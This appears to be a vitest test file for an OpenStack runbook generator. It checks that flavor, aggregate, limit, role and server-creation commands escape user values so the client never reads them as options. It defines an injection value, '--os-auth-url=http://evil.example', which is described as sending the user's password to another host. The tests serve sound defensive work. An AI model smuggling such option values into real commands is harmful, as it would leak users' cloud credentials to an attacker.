import { spawnSync } from 'node:child_process'
import { expect, test } from 'vitest'
import { openstackCommand } from '@/lib/domain/create-server/server-texts'
import type { Encoded } from '@/lib/util/encode/encoded'
import { sh, shellArguments, shellOperands } from '@/lib/util/encode/shell'
import {
  aggregateHostsStep,
  aggregatePropertiesStep,
  createAggregateStep,
} from '../flavor-steps/draft-aggregate'
import {
  createFlavorStep,
  describeFlavorStep,
  extraSpecsStep,
  flavorAccessStep,
} from '../flavor-steps/flavor-steps'
import { createRegisteredStep, grantRoleStep, setOwnLimitsSteps } from '../limits/limit-steps'
import type { PlannedStep } from '../types'
import { renderShellRunbook } from './render-runbook'

/** Sends the password of the user to another host where python-openstackclient reads it as an option. */
const EVIL = '--os-auth-url=http://evil.example'

/** As cliff does: options of the program itself count anywhere, up to `--`. */
const STUBS = `
exec 9>&1
openstack() {
  printf '%s\\n' called >&9
  for word; do
    case "$word" in
      --) break ;;
      --os-auth-url=*) printf 'leaked by: %s\\n' "$*" >&9 ;;
    esac
  done
  echo enabled None
}
ssh() { :; }
sleep() { :; }
kubectl() { :; }
`

const run = (script: string): string[] => {
  const { stdout } = spawnSync('sh', ['-c', `${STUBS}\n${script}`, 'sh'], {
    encoding: 'utf8',
    timeout: 20_000,
    stdio: ['ignore', 'pipe', 'ignore'],
  })
  return stdout.split('\n')
}

const expectNoLeak = (script: string): void => {
  const lines = run(script)
  expect(lines).toContain('called')
  expect(lines.filter((line) => line.startsWith('leaked'))).toEqual([])
}

const VALUES = [
  { key: EVIL, seen: null, wanted: 'a' },
  { key: EVIL, seen: 'a', wanted: null },
]
const FLAVOR = { flavorId: EVIL, flavorName: EVIL }
const SCOPE = { serviceId: 'nova', regionId: EVIL }

const STEPS: readonly [string, PlannedStep][] = [
  [
    'a new flavor',
    createFlavorStep(EVIL, {
      name: EVIL,
      description: EVIL,
      vcpus: 1,
      memoryMib: 1,
      diskGib: 1,
      isPublic: true,
    }),
  ],
  ['extra specs', extraSpecsStep(FLAVOR, VALUES)],
  ['a description', describeFlavorStep(FLAVOR, { seen: EVIL, wanted: EVIL })],
  ['access', flavorAccessStep(FLAVOR, { changes: VALUES, projectNames: {} })],
  ['a new aggregate', createAggregateStep(EVIL)],
  ['hosts of an aggregate', aggregateHostsStep(EVIL, VALUES)],
  ['properties of an aggregate', aggregatePropertiesStep(EVIL, VALUES)],
  ['a default', createRegisteredStep(SCOPE, [{ resourceName: 'class:VGPU', defaultLimit: 0 }])],
  ...setOwnLimitsSteps(SCOPE, [
    { projectId: 'p', projectName: 'p', resourceName: 'class:VGPU', seen: 1, wanted: 2 },
  ]).map((step): [string, PlannedStep] => ['a limit', step]),
  ['a role', grantRoleStep({ id: EVIL, name: EVIL })],
]

test.each(STEPS)('%s: no word of a command is read as an option of the client', (_, step) => {
  expectNoLeak(step.command)
  expectNoLeak(step.undoCommand)
})

const CALLS: readonly Encoded<'shell'>[] = [
  sh`expect_total VGPU 0 ${shellArguments([EVIL])}`,
  sh`expect_unused ${shellArguments([EVIL])}`,
  sh`show_totals ${shellArguments([EVIL])}`,
  sh`delete_provider ${shellArguments([EVIL])}`,
  sh`named_traits ${shellArguments([EVIL, '', 'CUSTOM_A'])}`,
  sh`close_host ${shellArguments([EVIL, EVIL])}`,
  sh`open_host ${shellArguments([EVIL, EVIL])}`,
  sh`await_away ${shellArguments([EVIL, EVIL])}`,
  sh`test_boot ${shellArguments([EVIL, EVIL, EVIL, EVIL, EVIL, EVIL])}`,
]

test.each(CALLS)('%s: no argument of a function is read as an option of the client', (command) => {
  const [, step] = STEPS[0] ?? []
  if (step === undefined) throw new Error('no step')
  expectNoLeak(renderShellRunbook({ id: 1, title: 't', cloud: 'lab', steps: [{ ...step, command }] }))
})

test('the command for a new server', () => {
  const reference = { text: EVIL, isId: false }
  const all = { name: EVIL, flavor: EVIL, image: reference, network: reference, keyPair: EVIL }
  expectNoLeak(openstackCommand({ ...all, securityGroups: [reference] }))
})

test('words that start like words are written without a separator', () => {
  expect(shellOperands(['a', 'b'])).toBe('a b')
  expect(shellOperands(['a', '-b'])).toBe('-- a -b')
})
